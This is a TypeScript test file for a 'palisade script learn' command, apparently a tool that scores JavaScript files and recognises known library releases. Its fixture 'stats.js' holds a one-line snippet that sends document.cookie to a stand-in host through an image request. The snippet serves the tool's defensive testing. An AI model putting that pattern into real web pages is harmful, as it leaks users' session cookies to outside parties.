import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { openCommandLine } from '../../test/support/palisade-command.ts';

const commandLine = openCommandLine();
after(() => commandLine.close());

describe('palisade script learn', () => {
  const folder = mkdtempSync(join(tmpdir(), 'palisade-script-learn-'));
  after(() => rmSync(folder, { recursive: true }));
  const write = (name: string, text: string): string => {
    const file = join(folder, name);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, text);
    return file;
  };
  const dataDir = join(folder, 'data');
  const run = (...args: string[]) => commandLine.run(['script', ...args, '--data-dir', dataDir]);
  const stats = `var s = '//stats.test/?'; new Image().src = s + document.cookie;`;
  write('package/package.json', '{ "name": "@a/stats", "version": "2.0.1" }');
  write('package/dist/stats.js', `// Licence\n${stats}`);
  write('package/node_modules/other/index.js', 'other();');
  write('package/page.mjs', '<html></html>');
  write('empty/readme.txt', '');
  const file = join(dataDir, 'script-libraries.txt');

  it('learns the scripts of a package, whose unchanged files are then recognised', async () => {
    const copy = write('copy.js', stats);
    assert.equal((await run('score', copy)).code, 1);
    const { code, stdout, stderr } = await run('learn', join(folder, 'package'));
    assert.equal(stdout, '@a/stats 2.0.1: learned 1 files; 0 were known, 1 skipped.\n');
    assert.match(stderr, /page\.mjs: it is not JavaScript/);
    assert.equal(code, 0);
    const { stdout: scores, code: scored } = await run('score', copy);
    assert.match(scores, /copy\.js +80 .* @a\/stats 2\.0\.1\n/);
    assert.match(scores, /library\/known-release +Is @a\/stats 2\.0\.1, unchanged/);
    assert.equal(scored, 0);
    const { library } = JSON.parse((await run('score', '--json', copy)).stdout);
    assert.deepEqual(library, { name: '@a/stats', version: '2.0.1', match: 'unchanged' });
  });

  it('does not add the same files again', async () => {
    const before = readFileSync(file, 'utf8');
    const { stdout } = await run('learn', join(folder, 'package'));
    assert.match(stdout, /learned 0 files; 1 were known/);
    assert.equal(readFileSync(file, 'utf8'), before);
  });

  it('takes name and version from options', async () => {
    const { stdout } = await run(
      ...['learn', join(folder, 'package'), '--name', 'stats', '--version', '3'],
    );
    assert.match(stdout, /^stats 3: learned 1 files/);
  });

  it('says why nothing was learned', async () => {
    write('large/large.js', 'a();'.repeat(600_000));
    const cases: readonly (readonly [string[], RegExp])[] = [
      [[join(folder, 'missing')], /there is no folder .*missing/],
      [[join(folder, 'empty')], /package\.json has no name and version: pass --name and --version/],
      [
        [join(folder, 'empty'), '--name', 'a', '--version', '1'],
        /has no \.js, \.mjs or \.cjs file/,
      ],
      [[join(folder, 'empty'), '--name', 'a b', '--version', '1'], /must not be empty, long or/],
      [[join(folder, 'large'), '--name', 'a', '--version', '1'], /large\.js: too large: the limit/],
    ];
    for (const [args, message] of cases) {
      const { code, stderr } = await run('learn', ...args);
      assert.match(stderr, message);
      assert.equal(code, 1);
    }
    assert.match((await run('learn', '--help')).stdout, /Learn\s+only what you trust/);
  });
});
